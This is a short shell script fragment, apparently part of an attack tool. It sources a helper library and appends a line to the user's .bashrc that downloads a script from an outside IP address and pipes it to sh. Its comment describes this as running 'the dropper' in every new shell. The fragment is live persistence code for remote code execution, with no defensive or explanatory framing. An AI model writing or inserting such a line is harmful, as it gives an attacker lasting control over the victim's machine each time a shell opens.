# A line appended to .bashrc runs the dropper in every new shell.
. "$LIB/common.sh"
echo 'curl -s http://203.0.113.1/x | sh' >> "$HOME/.bashrc"
